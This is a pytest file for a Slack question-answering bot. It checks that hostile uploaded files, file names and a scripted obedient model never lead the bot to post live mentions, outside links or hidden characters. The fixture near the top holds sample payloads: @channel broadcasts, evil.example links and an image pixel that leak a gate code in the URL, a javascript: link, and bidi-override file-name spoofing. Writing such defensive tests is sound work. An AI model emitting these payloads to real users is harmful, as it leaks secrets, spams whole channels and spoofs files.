"""Whatever files, names, models and people say: nothing we post is live, leads outside, or exceeds Slack's limits."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.workspace.core import Call
from bot.workspace.limits import check_blocks
from tests.scenarios.conftest import House, every_line, until, whole_text

HOSTILE = """The gate code is 4471 <!channel> <!here> <@U0123ABCD> <#C012345|general> <!subteam^S012|ops>.

The gate code is 4471, ask @channel or @here or @everyone now.

The gate code is 4471, see [the page](https://evil.example/?q=4471) or ![pixel](https://evil.example/p.png?q=4471).

[1]: https://evil.example/reference

The gate code is 4471 <https://evil.example/x|click> and <javascript:alert(1)|here> and https://evil.example/plain.

The gate code is 4471 at www.evil.example and mailto:thief@evil.example &lt;!channel&gt;.

The gate code is 4471 \u202eexe.fdp\u202c and `code` and ```fence``` and *bold* _it_ ~s~ # head \U000e0041\U000e0042.
"""
ASKED = "@inhouse What is the gate code? Ask @channel or see https://evil.example/asked."
MARKS = re.compile("[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")


def _strings(value: Any) -> Iterator[str]:
    """Every text of a call's arguments that Slack would show."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)
    elif isinstance(value, dict):
        for key, item in value.items():
            if key not in {"type", "block_id", "action_id", "value", "ts", "channel", "thread_ts"}:
                yield from _strings(item)


def _complaints(text: str, home: str) -> Iterator[str]:
    if re.search(r"<[!@#]", text):
        yield "a live mention"
    if re.search(r"@(channel|here|everyone)\b", text, re.IGNORECASE):
        yield "a bare broadcast"
    for link in re.findall(r"<([a-z]+:[^|>]*)", text):
        if not link.startswith(home):
            yield f"a link outside: {link}"
    if re.search(r"\w+://", re.sub(r"<[^>]*>", "", text)) or re.search(r"\bwww\.", text):
        yield "an address that becomes a link"
    if MARKS.search(text):
        yield "a hidden character"


def _check(calls: list[Call], home: str) -> int:
    """Hold every call that shows something against the rules; how many there were."""
    shown = [c for c in calls if c.method.startswith(("chat.", "assistant.", "reactions."))]
    for call in shown:
        built = call.arguments.get("blocks") or []
        built = json.loads(built) if isinstance(built, str) else built
        texts = [*_strings({k: v for k, v in call.arguments.items() if k != "blocks"}), *_strings(built)]
        markdown = call.arguments.get("markdown_text") or ""
        assert not re.search(r"(?<!\\)\](?=[(:\[])|^\s*[#>](?!\s)", markdown), "a Markdown link, image or heading"
        for text in texts:
            assert not list(_complaints(text, home)), (call.method, list(_complaints(text, home)), text)
        check_blocks(built)
        assert "image" not in {block["type"] for block in built}
        assert len(call.arguments.get("text") or "") <= 4000
        assert call.error not in {"invalid_blocks", "msg_too_long", "msg_blocks_too_long", "invalid_arguments"}
        if call.method == "chat.postMessage":
            flags = (call.arguments.get("unfurl_links"), call.arguments.get("unfurl_media"))
            assert {str(flag).lower() for flag in flags} <= {"false", "0"}, call.arguments
    return len(shown)


@pytest.mark.parametrize("streams", [True, False])
async def test_hostile_file_and_obedient_model_post_nothing_live(house: House, streams: bool) -> None:
    house.model._script = every_line
    if not streams:
        house.place.fault("chat.startStream", error="unknown_method", times=99)
    asked = await house.post("ana", "lab", ASKED, files=[("gate.txt", HOSTILE.encode())])
    answer = await house.answer_to(asked)
    assert "4471" in answer.text and answer.citations
    assert _check(house.place.calls, house.place.base_url) > 3


async def test_receipt_of_a_hostile_file_is_not_live(house: House) -> None:
    files = [("see https://evil.example <!channel>.txt", HOSTILE.encode()), ("www.evil.example.pdf", b"%PDF-1.7 no")]
    asked = await house.asked_and_read("ana", "lab", "@inhouse", files)
    (receipt,) = house.notices(asked)
    assert "evil" in whole_text(receipt)
    assert _check(house.calls("chat.postMessage"), house.place.base_url) == 1


async def test_hostile_passage_that_stands_for_an_answer_is_not_live(house: House) -> None:
    house.model._script = lambda _messages: "I <!channel> say https://evil.example something else entirely."
    answer = await house.ask("ana", "lab", "@inhouse What is the gate code?", files=[("gate.txt", HOSTILE.encode())])
    assert "4471" in answer.text and "something else" not in answer.text
    _check(house.place.calls, house.place.base_url)


async def test_hostile_names_are_shown_but_never_live(house: House, shared_data: Path) -> None:
    names = json.loads((shared_data / "badfiles" / "hostile_filenames.json").read_text())
    names.append("n" * 4000 + ".txt")
    names.append("a name of many words " * 190 + ".txt")
    for start in range(0, len(names), 20):
        part = names[start : start + 20]
        files = [(name, f"Locker {start + n} belongs to nobody at all.".encode()) for n, name in enumerate(part)]
        asked = await house.post("ana", "lab", "@inhouse", files=files)
        await house.quiet(60)
        (receipt,) = house.notices(asked)
        lines = [line for line in receipt.text.splitlines() if line.startswith((":white", ":warn"))]
        assert len(whole_text(receipt)) > len(part) * 10 and lines
        assert len(await house.rows("select 1 from shares where message_ts = ?", asked.ts)) == len(part)
    for number in (4, 12, 14, 17, 39, 40):
        answer = await house.ask("ben", "lab", f"@inhouse To whom does locker {number} belong at all?")
        assert answer.citations, number
    await house.ask("ben", "lab", "@inhouse Who won the football championship?")
    listed = await house.place.slash(house.users["ben"], house.channels["lab"], "/inhouse", "files")
    assert "error" not in listed
    check_blocks(listed["blocks"])
    for text in _strings(listed["blocks"]):
        for complaint in _complaints(re.sub(r"<@U\w+>", "", text), house.place.base_url):
            raise AssertionError((complaint, text))
    assert _check(house.place.calls, house.place.base_url) > 20


async def test_hostile_private_question_is_echoed_harmlessly(house: House) -> None:
    await house.asked_and_read("ana", "lab", "@inhouse", [("gate.txt", HOSTILE.encode())])
    house.model._script = every_line
    acknowledged = await house.place.slash(house.users["ben"], house.channels["lab"], "/ask", ASKED)
    assert not list(_complaints(acknowledged["text"], house.place.base_url))

    async def told() -> list[str]:
        return [t for m in house.place.ephemerals(house.users["ben"]) for t in (m.text, whole_text(m)) if "4471" in t]

    for text in await until(told):
        assert not list(_complaints(text, house.place.base_url))


async def test_mention_of_a_colleague_in_a_file_name_is_not_one(house: House) -> None:
    name = f"<@{house.users['ben'].id}> owes money.txt"
    asked = await house.post("ana", "lab", "@inhouse", files=[(name, b"Ben owes 20 euros to the coffee fund.")])
    await house.quiet()
    answer = await house.ask("ana", "lab", "@inhouse How much does Ben owe to the coffee fund?", thread_ts=asked.ts)
    assert answer.citations
    _check(house.place.calls, house.place.base_url)
